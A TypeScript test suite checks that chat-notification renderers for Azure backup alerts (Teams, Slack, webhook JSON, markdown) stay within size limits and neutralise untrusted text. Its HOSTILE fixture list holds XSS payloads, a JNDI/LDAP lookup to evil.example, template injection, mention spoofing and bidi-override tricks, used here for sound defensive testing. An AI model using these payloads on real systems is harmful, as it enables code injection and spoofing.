import { describe, expect, it } from 'vitest';

import { fitsSlack, renderSlack } from '../../../src/core/render/renderSlack.js';
import { renderTeams, TEAMS_MAX_BYTES } from '../../../src/core/render/renderTeams.js';
import { renderGeneric } from '../../../src/core/render/renderGeneric.js';
import { renderNotificationMarkdown } from '../../../src/core/render/renderNotificationMarkdown.js';
import type { Notification } from '../../../src/core/notify/types.js';
import type { EnrichedEvent } from '../../../src/core/types.js';
import { triage } from '../../../src/pipeline/triage.js';
import { failedJob } from '../../helpers/lookups.js';
import { expectValidNotification } from '../../helpers/schema.js';

/** The longest names Azure allows: VM 64 characters, resource group 90. */
const LONG_VM = `vm-${'x'.repeat(61)}`;
const LONG_RG = `rg-${'y'.repeat(87)}`;

function eventOf(
  code: string,
  vm = { resourceGroup: LONG_RG, name: LONG_VM },
  lang: 'en' | 'fr' = 'en',
): EnrichedEvent {
  return triage([{ body: { records: [failedJob(vm, code)] }, origin: { bodyIndex: 0 } }], { lang }).events[0]!;
}

/** The largest realistic finding: the code with the most causes, every cause with two lines of evidence. */
function largest(lang: 'en' | 'fr' = 'en'): EnrichedEvent {
  const event = eventOf('BackUpOperationFailed', undefined, lang);
  event.causes = event.causes.map((cause, i) => ({
    ...cause,
    verdict: i === 0 ? 'confirmed' : i % 2 ? 'ruled_out' : 'unknown',
    evidence: [
      {
        probe: 'vm-agent',
        summary: `agent on ${LONG_VM} reports ${'details '.repeat(30)}`,
        api: 'GET …/instanceView',
        at: '2026-11-25T02:00:00Z',
      },
      { probe: 'snapshot-extension', summary: `extension status message ${'long '.repeat(40)}` },
    ],
  }));
  return event;
}

const notification = (
  events: EnrichedEvent[],
  kind: Notification['kind'] = 'new',
  groupSize?: number,
): Notification => ({
  id: 'msg-1',
  kind,
  lang: events[0]!.lang,
  priority: events[0]!.priority.level,
  createdAt: '2026-11-25T02:00:00.000Z',
  events,
  occurrences: 1,
  ...(groupSize !== undefined && { groupSize }),
});

const HOSTILE = [
  '**bold** _it_ [link](https://evil.example) `code` # heading',
  '<!channel> <!here> <https://evil.example|click me> @everyone',
  '<script>alert(1)</script><img src=x onerror=alert(1)>&amp;',
  '${jndi:ldap://evil.example/a} ${$root.secret} {{template}}',
  '\u202Egnp.exe\u202C \u2066isolate\u2069 right-to-left \u05D0\u05D1',
  'zero\u200Bwidth\u200Djoiner\uFEFF',
  'n'.repeat(10_240),
];

function hostileEvent(text: string): EnrichedEvent {
  const event = largest();
  event.summary = { ...event.summary, headline: text, firstAction: { ...event.summary.firstAction, text } };
  event.job = { ...event.job, vmName: text, vaultName: text, vmResourceGroup: text };
  event.causes = event.causes.map((cause) => ({ ...cause, title: text, evidence: [{ probe: 'x', summary: text }] }));
  event.classification = { ...event.classification, title: text };
  return event;
}

/** Every string value of a JSON document. */
function strings(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(strings);
  if (value !== null && typeof value === 'object') return Object.values(value).flatMap(strings);
  return [];
}

describe('Teams (Workflows, Adaptive Card 1.5)', () => {
  it('fits the largest realistic finding in 20 KB of UTF-8, in both languages', () => {
    for (const lang of ['en', 'fr'] as const) {
      const body = renderTeams(notification([largest(lang)]));
      expect(Buffer.byteLength(body, 'utf8')).toBeLessThanOrEqual(TEAMS_MAX_BYTES);
      const message = JSON.parse(body) as {
        type: string;
        attachments: Array<{ contentType: string; content: { version: string; body: unknown[] } }>;
      };
      expect(message.type).toBe('message');
      expect(message.attachments[0]).toMatchObject({
        contentType: 'application/vnd.microsoft.card.adaptive',
        content: { version: '1.5', type: 'AdaptiveCard' },
      });
      expect(body).toContain(LONG_VM);
    }
  });

  it('sheds sections, never cuts JSON, for a storm of 300 items', () => {
    const events = Array.from({ length: 300 }, (_, i) =>
      eventOf('BackUpOperationFailedV2', { resourceGroup: LONG_RG, name: `vm-${i}-${'z'.repeat(50)}` }),
    );
    const body = renderTeams(notification(events, 'group', 300));
    expect(Buffer.byteLength(body, 'utf8')).toBeLessThanOrEqual(TEAMS_MAX_BYTES);
    expect(body).toContain('…and 288 more');
  });

  it.each(HOSTILE.map((text) => [text.slice(0, 40), text]))('renders %j inert and within limits', (_, text) => {
    const body = renderTeams(notification([hostileEvent(text)]));
    expect(Buffer.byteLength(body, 'utf8')).toBeLessThanOrEqual(TEAMS_MAX_BYTES);
    const card = JSON.parse(body) as { attachments: Array<{ content: { body: Array<{ type: string }> } }> };
    // No TextBlock: untrusted text only ever sits in TextRuns, which take no markdown.
    const blocks = card.attachments[0]!.content.body.flatMap((element) =>
      element.type === 'Container' ? (element as unknown as { items: Array<{ type: string }> }).items : [element],
    );
    expect(blocks.every((element) => element.type === 'RichTextBlock')).toBe(true);
    for (const value of strings(card)) {
      expect(value).not.toMatch(/\$\{/);
      expect(value).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200B-\u200F\uFEFF]/);
    }
  });
});

describe('Slack (Block Kit)', () => {
  it('fits the largest realistic finding and a 300-item storm within Slack limits', () => {
    for (const n of [
      notification([largest()]),
      notification(
        Array.from({ length: 300 }, (_, i) =>
          eventOf('BackUpOperationFailedV2', { resourceGroup: 'rg', name: `vm-${i}` }),
        ),
        'group',
        300,
      ),
    ]) {
      const message = JSON.parse(renderSlack(n)) as Parameters<typeof fitsSlack>[0];
      expect(fitsSlack(message)).toBe(true);
      expect(message.blocks.length).toBeLessThanOrEqual(50);
    }
  });

  it.each(HOSTILE.map((text) => [text.slice(0, 40), text]))('renders %j inert and within limits', (_, text) => {
    const message = JSON.parse(renderSlack(notification([hostileEvent(text)]))) as {
      text: string;
      blocks: Array<Record<string, unknown>>;
    };
    expect(fitsSlack(message)).toBe(true);
    const mrkdwn = [
      message.text,
      ...message.blocks
        .map((block) => block['text'] as { type: string; text: string } | undefined)
        .filter((t) => t?.type === 'mrkdwn')
        .map((t) => t!.text),
    ];
    for (const value of mrkdwn) expect(value).not.toMatch(/<[!@#]|<https?:|<script/);
    for (const value of strings(message)) expect(value).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200B-\u200F\uFEFF]/);
  });
});

describe('generic (Standard Webhooks JSON)', () => {
  it('is valid against schema/notification.v1.json, under 20 KB, for a finding and a storm', () => {
    const one = JSON.parse(renderGeneric(notification([largest()])));
    expectValidNotification(one);
    const storm = renderGeneric(
      notification(
        Array.from({ length: 300 }, (_, i) =>
          eventOf('BackUpOperationFailedV2', { resourceGroup: 'rg', name: `vm-${i}` }),
        ),
        'group',
        300,
      ),
    );
    expect(Buffer.byteLength(storm, 'utf8')).toBeLessThanOrEqual(20_000);
    expectValidNotification(JSON.parse(storm));
  });

  it.each(HOSTILE.map((text) => [text.slice(0, 40), text]))('carries %j as JSON data, valid and bounded', (_, text) => {
    const body = renderGeneric(notification([hostileEvent(text)]));
    expect(Buffer.byteLength(body, 'utf8')).toBeLessThanOrEqual(20_000);
    expectValidNotification(JSON.parse(body));
  });
});

describe('markdown', () => {
  it('escapes links, HTML and emphasis from events', () => {
    const out = renderNotificationMarkdown(notification([hostileEvent(HOSTILE[0]! + HOSTILE[2]!)]));
    expect(out).not.toContain('[link](');
    expect(out).not.toContain('<script>');
    expect(out).toContain('\\[link\\]');
    expect(out).toContain('\\<script\\>');
  });
});
